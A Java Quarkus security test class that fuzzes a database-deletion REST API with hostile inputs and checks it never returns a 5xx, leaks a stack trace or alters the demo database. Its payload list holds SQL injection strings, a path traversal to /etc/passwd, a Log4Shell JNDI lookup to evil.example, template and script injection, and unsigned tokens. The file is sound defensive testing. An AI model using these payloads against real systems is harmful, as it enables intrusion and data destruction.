package dev.safedelete.security;

import dev.safedelete.target.TargetRegistry;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import static dev.safedelete.testsupport.Api.ADMIN_KEY;
import static dev.safedelete.testsupport.Api.VIEWER_KEY;
import static dev.safedelete.testsupport.Api.anonymous;
import static dev.safedelete.testsupport.Api.as;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Whatever a caller sends, to the operations that exist and to every path api.md names (some not served on every
 * branch yet), the answer is never a 5xx and the demo database is left exactly as it was. Sent as an admin (so
 * requests get as far as they can), as a viewer, and without credentials.
 */
@QuarkusTest
class HostileInputTest {

    static final String SQL = "'; DROP TABLE customers; --";

    /** Values for path segments, query parameters, keys and headers. */
    static final List<String> HOSTILE = List.of(
            SQL,
            "customers; DELETE FROM orders",
            "public.customers\" OR \"1\"=\"1",
            "1 OR 1=1",
            "../../../../etc/passwd",
            "..",
            "%00", "\u0000", "\u0007\u001b[2J", "\t\r\n",
            "\u202Eevil\u202C", "💣🧨", "ÄÖÜ ß 中文 العربية", "\uFFFF", "\uD83D",
            "99999999999999999999999999999999999999",
            "-1", "1e400", "NaN",
            "not-a-uuid", "00000000-0000-0000-0000-00000000000g", "00000000-0000-0000-0000-000000000000",
            "x".repeat(3000),
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>");

    static final String PLAN_ID = "00000000-0000-0000-0000-000000000000";

    @Inject
    TargetRegistry registry;

    private Map<String, Long> before;

    @BeforeEach
    void countDemoRows() throws SQLException {
        before = demoRowCounts();
        assertTrue(before.size() >= 13, "the demo has its tables: " + before);
    }

    @AfterEach
    void demoIsUnchanged() throws SQLException {
        assertEquals(before, demoRowCounts(), "the demo database changed");
    }

    @Test
    void hostilePathSegmentsAndQueryParameters() {
        for (String value : HOSTILE) {
            for (String template : List.of(
                    "/api/v1/targets/{v}",
                    "/api/v1/targets/{v}/schema",
                    "/api/v1/targets/demo/tables/{v}/dependents",
                    "/api/v1/targets/{v}/tables/{v}/dependents",
                    "/api/v1/delete-plans/{v}",
                    "/api/v1/delete-plans/{v}/rows",
                    "/api/v1/delete-plans/{v}/script",
                    "/api/v1/executions/{v}")) {
                String path = template.replace("{v}", segment(value));
                everyone(request -> request.get(path), "GET " + path);
            }
            String q = segment(value);
            everyone(request -> request.get("/api/v1/targets/demo/graph?format=" + q), "graph " + value);
            everyone(request -> request.get("/api/v1/delete-plans/" + PLAN_ID + "/rows?table=" + q + "&action=" + q
                    + "&limit=" + q + "&cursor=" + q), "rows " + value);
            everyone(request -> request.get("/api/v1/executions?target=" + q + "&limit=" + q + "&cursor=" + q),
                    "executions " + value);
            everyone(request -> request.post("/api/v1/targets/" + segment(value) + "/schema/refresh"), "refresh " + value);
        }
    }

    @Test
    void hostileJsonBodies() {
        var bodies = new ArrayList<String>();
        for (String value : HOSTILE) {
            String quoted = json(value);
            bodies.add("{\"table\":" + quoted + ",\"keys\":[{\"id\":1001}]}");
            bodies.add("{\"table\":\"public.customers\",\"keys\":[{" + quoted + ":1001}]}");
            bodies.add("{\"table\":\"public.customers\",\"keys\":[{\"id\":" + quoted + "}]}");
            bodies.add("{\"table\":\"public.customers\",\"keys\":[{\"id\":1001}],\"mode\":" + quoted + "}");
            bodies.add("{\"table\":\"public.customers\",\"keys\":[{\"id\":1001}],\"overrides\":{" + quoted + ":" + quoted + "}}");
            bodies.add("{\"confirmationToken\":" + quoted + "}");
        }
        bodies.addAll(List.of(
                "{\"table\":\"public.customers\",\"keys\":[{\"id\":1e999999}]}",
                "{\"table\":\"public.customers\",\"keys\":[{\"id\":" + "9".repeat(5000) + "}]}",
                "{\"table\":\"public.customers\",\"keys\":[{\"id\":1001}],\"sampleSize\":99999999999999999999}",
                "{\"table\":\"public.customers\",\"keys\":[{\"id\":1001}],\"sampleSize\":-2147483649}",
                "{\"table\":123,\"keys\":\"all\"}",
                "{\"table\":[],\"keys\":[[[]]]}",
                "{\"table\":null,\"keys\":null,\"mode\":null}",
                "[]", "null", "0", "\"customers\"", "", "{", "}", "{\"a\":", "\u0000", "{\"table\":\"\u0000\"}",
                "{\"table\":\"public.customers\",\"table\":\"public.orders\",\"keys\":[{\"id\":1001}]}",
                nested(10_000, "[", "]"), nested(10_000, "{\"a\":", "}"),
                "{\"keys\":" + nested(10_000, "[", "]") + "}",
                "{\"table\":\"t\",\"keys\":[{\"id\":" + nested(5_000, "{\"x\":", "}") + "}]}"));
        for (String text : bodies) {
            // Bytes, not a String: REST Assured inspects String bodies, slowly for deep ones.
            byte[] body = text.getBytes(StandardCharsets.UTF_8);
            String what = "body " + abbreviate(text);
            for (String path : List.of("/api/v1/targets/demo/delete-plans", "/api/v1/delete-plans/" + PLAN_ID + "/execution",
                    "/api/v1/targets/demo/schema/refresh", "/api/v1/targets")) {
                everyone(request -> request.contentType("application/json").body(body).post(path), what + " to " + path);
            }
            // The JSON endpoint that exists on every branch: shaped like a plan request.
            for (String probe : List.of("/test/problems", "/api/test/security/any-json")) {
                assertNotServerError(as(ADMIN_KEY).contentType("application/json").body(body).post(probe), what + " to " + probe);
            }
        }
    }

    /** Jackson refuses nesting deeper than its limit (1000) while parsing, before any recursion of ours. */
    @Test
    void deeplyNestedJsonIsA400ProblemNotAStackOverflow() {
        for (String body : List.of(
                "{\"table\":\"t\",\"keys\":[{\"id\":" + nested(10_000, "{\"x\":", "}") + "}]}",
                "{\"a\":" + nested(10_000, "[", "]") + "}",
                "{\"a\":" + nested(1_001, "[", "]") + "}")) {
            as(ADMIN_KEY).contentType("application/json").body(body.getBytes(StandardCharsets.UTF_8))
                    .when().post("/api/test/security/any-json")
                    .then().statusCode(400)
                    .contentType("application/problem+json")
                    .body("type", equalTo("https://safedelete.dev/problems/json-limit-exceeded"))
                    .body("status", equalTo(400));
        }
        as(ADMIN_KEY).contentType("application/json").body("{\"a\":" + nested(500, "[", "]") + "}")
                .when().post("/api/test/security/any-json").then().statusCode(200);
    }

    @Test
    void hostileHeaders() {
        for (String value : List.of(SQL, "💣", "ÄÖÜ", "x".repeat(3000), "${jndi:ldap://evil.example/a}", "\u0001\u007f")) {
            String header = value.replaceAll("[\\r\\n]", "");
            everyone(request -> request.header("X-Request-Id", header).header("X-Forwarded-For", header)
                    .get("/api/v1/targets"), "headers " + abbreviate(value));
            everyone(request -> request.header("Accept", header).get("/api/v1/targets/demo"), "accept " + abbreviate(value));
            everyone(request -> request.header("Content-Type", header).body("{}".getBytes(StandardCharsets.UTF_8))
                    .post("/api/v1/targets/demo/delete-plans"),
                    "content-type " + abbreviate(value));
            assertNotServerError(anonymous().header("Authorization", "Bearer " + header).get("/api/v1/targets"),
                    "bearer " + abbreviate(value));
            assertNotServerError(anonymous().header("Authorization", header).get("/api/v1/targets"),
                    "authorization " + abbreviate(value));
        }
        // A structurally valid token around hostile claims.
        assertNotServerError(as(Tokens.forUser(SQL, SQL, "admin")).get("/api/v1/targets/demo"), "token with hostile claims");
        assertNotServerError(as(Tokens.forUserOnTargets(SQL, List.of(SQL), "admin")).get("/api/v1/targets"),
                "token with hostile targets");
        assertNotServerError(as("a.b.c").get("/api/v1/targets"), "three dots");
        assertNotServerError(as("eyJhbGciOiJub25lIn0.e30.").get("/api/v1/targets"), "empty unsigned token");
    }

    @Test
    void tenMegabyteBodiesAre413WithOrWithoutCredentials() {
        byte[] huge = ("{\"table\":\"" + "x".repeat(10 * 1024 * 1024) + "\",\"keys\":[]}").getBytes(StandardCharsets.UTF_8);
        var attempts = List.<Map.Entry<String, RequestSpecification>>of(
                Map.entry("/api/v1/targets/demo/delete-plans", as(ADMIN_KEY)),
                Map.entry("/api/v1/targets/demo/delete-plans", anonymous()),
                Map.entry("/api/v1/delete-plans/" + PLAN_ID + "/execution", as(VIEWER_KEY)),
                Map.entry("/api/v1/targets", as(ADMIN_KEY)),
                Map.entry("/test/problems", as(ADMIN_KEY)));
        for (var attempt : attempts) {
            String path = attempt.getKey();
            for (RequestSpecification request : List.of(attempt.getValue())) {
                request.contentType("application/json").body(huge).when().post(path)
                        .then().statusCode(413)
                        .contentType("application/problem+json")
                        .body("type", equalTo("https://safedelete.dev/problems/payload-too-large"));
            }
        }
    }

    @Test
    void aStreamedTenMegabyteBodyWithoutLengthIsRefusedToo() {
        byte[] huge = ("{\"table\":\"" + "x".repeat(10 * 1024 * 1024) + "\",\"keys\":[]}").getBytes(StandardCharsets.UTF_8);
        Response response;
        try {
            response = as(ADMIN_KEY).contentType("application/json").body(new ByteArrayInputStream(huge))
                    .post("/test/problems");
        } catch (RuntimeException connectionClosedWhileSending) {
            return; // the server closed the connection on the oversized body: refused, which is the point
        }
        assertEquals(413, response.statusCode(), response.asString());
    }

    private void everyone(java.util.function.Function<RequestSpecification, Response> send, String what) {
        for (RequestSpecification request : List.of(as(ADMIN_KEY), as(VIEWER_KEY), anonymous())) {
            assertNotServerError(send.apply(request.urlEncodingEnabled(false)), what);
        }
    }

    private static void assertNotServerError(Response response, String what) {
        assertTrue(response.statusCode() < 500, what + " was answered " + response.statusCode() + ": "
                + abbreviate(response.asString()));
        String body = response.asString();
        assertFalse(body.contains("at dev.safedelete") || body.contains("at java."), what + " leaked a stack trace");
    }

    private Map<String, Long> demoRowCounts() throws SQLException {
        var counts = new TreeMap<String, Long>();
        try (Connection c = registry.find("demo").orElseThrow().connection()) {
            var tables = new ArrayList<String>();
            try (ResultSet rs = c.createStatement().executeQuery(
                    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'")) {
                while (rs.next()) {
                    tables.add(rs.getString(1));
                }
            }
            for (String table : tables) {
                try (ResultSet rs = c.createStatement().executeQuery("SELECT count(*) FROM public.\"" + table + "\"")) {
                    rs.next();
                    counts.put(table, rs.getLong(1));
                }
            }
        }
        return counts;
    }

    /** A path segment or query value percent-encoded as UTF-8, every byte outside the unreserved set. */
    private static String segment(String value) {
        var out = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            char ch = (char) (b & 0xff);
            if ((ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') || (ch >= '0' && ch <= '9') || "-._~".indexOf(ch) >= 0) {
                out.append(ch);
            } else {
                out.append('%').append(String.format("%02X", b & 0xff));
            }
        }
        return out.toString();
    }

    private static String nested(int depth, String open, String close) {
        return open.repeat(depth) + "1" + close.repeat(depth);
    }

    private static String json(String value) {
        var out = new StringBuilder("\"");
        for (char ch : value.toCharArray()) {
            if (ch == '"' || ch == '\\') {
                out.append('\\').append(ch);
            } else if (ch < 0x20) {
                out.append(String.format("\\u%04x", (int) ch));
            } else {
                out.append(ch);
            }
        }
        return out.append('"').toString();
    }

    private static String abbreviate(String text) {
        return text.length() <= 120 ? text : text.substring(0, 120) + "... (" + text.length() + " chars)";
    }
}
